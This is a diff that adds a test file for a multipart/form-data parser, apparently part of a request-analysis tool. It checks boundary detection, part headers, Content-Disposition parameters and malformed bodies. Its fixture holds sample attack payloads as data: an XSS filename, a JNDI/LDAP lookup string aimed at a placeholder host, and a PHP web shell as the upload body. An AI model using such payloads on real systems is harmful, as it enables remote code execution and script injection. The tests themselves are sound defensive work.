@@ -1,0 +1,63 @@
+import { describe, expect, test } from "bun:test";
+import { addMultipartLeaves, boundaryOf, dispositionParam, parseMultipart, sniffBoundary } from "../../../src/decompose/body/multipart.ts";
+import { leafAt, sink } from "../fixtures.ts";
+
+const BODY = [
+  "------WebKitFormBoundaryX",
+  'Content-Disposition: form-data; name="title"',
+  "",
+  "hello",
+  "world",
+  "------WebKitFormBoundaryX",
+  'Content-Disposition: form-data; name="upload"; filename="<script>alert(1)</script>.php"',
+  "Content-Type: image/png; x=${jndi:ldap://e/a}",
+  "",
+  "<?php system($_GET['c']); ?>",
+  "------WebKitFormBoundaryX--",
+  "",
+].join("\r\n");
+
+describe("multipart", () => {
+  test("the boundary from Content-Type (quoted or not) or from the body's first line", () => {
+    expect(boundaryOf("multipart/form-data; boundary=----WebKitFormBoundaryX")).toBe("----WebKitFormBoundaryX");
+    expect(boundaryOf('multipart/form-data; charset=utf-8; boundary="a b"')).toBe("a b");
+    expect(boundaryOf("multipart/form-data")).toBeNull();
+    expect(sniffBoundary(BODY)).toBe("----WebKitFormBoundaryX");
+    expect(sniffBoundary("--\r\n")).toBeNull();
+  });
+
+  test("parts: name, filename, own headers and value (line breaks inside a value kept)", () => {
+    const { parts, closed } = parseMultipart(BODY, "----WebKitFormBoundaryX");
+    expect(closed).toBe(true);
+    expect(parts.map((p) => [p.name, p.filename, p.value])).toEqual([
+      ["title", null, "hello\r\nworld"],
+      ["upload", "<script>alert(1)</script>.php", "<?php system($_GET['c']); ?>"],
+    ]);
+    expect(parts[1]!.headers[1]).toEqual(["content-type", "image/png; x=${jndi:ldap://e/a}"]);
+  });
+
+  test("leaves: value, filename (kind filename) and part headers (kind part-header)", () => {
+    const s = sink();
+    expect(addMultipartLeaves(s, BODY, "----WebKitFormBoundaryX")).toEqual({ parsed: true, closed: true });
+    expect(leafAt(s.leaves, "body.multipart.title")).toMatchObject({ location: "body", name: "title", text: "hello\r\nworld", kind: "value" });
+    expect(leafAt(s.leaves, "body.multipart.upload.filename", "filename").text).toBe("<script>alert(1)</script>.php");
+    expect(leafAt(s.leaves, "body.multipart.upload.header.content-type", "part-header").text).toBe("image/png; x=${jndi:ldap://e/a}");
+    expect(leafAt(s.leaves, "body.multipart.upload").text).toBe("<?php system($_GET['c']); ?>");
+  });
+
+  test("Content-Disposition parameters: escapes in quotes, bare tokens, filename* wins", () => {
+    expect(dispositionParam('form-data; name="a\\"b"; filename=x.txt', "name")).toBe('a"b');
+    expect(dispositionParam('form-data; name="a"; filename=x.txt', "filename")).toBe("x.txt");
+    expect(dispositionParam("form-data; filename=\"a.txt\"; filename*=UTF-8''%3Cx%3E.txt", "filename")).toBe("<x>.txt");
+    expect(dispositionParam("form-data; name", "name")).toBeNull();
+  });
+
+  test("malformed: no closing delimiter, missing headers, a boundary inside a line", () => {
+    const unclosed = '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1 --b not a delimiter\r\n--b\r\nno header blank line';
+    const { parts, closed } = parseMultipart(unclosed, "b");
+    expect(closed).toBe(false);
+    expect(parts[0]!.value).toBe("1 --b not a delimiter");
+    expect(parts[1]!.headers).toEqual([]);
+    expect(parseMultipart("no delimiter here", "b").parts).toEqual([]);
+  });
+});
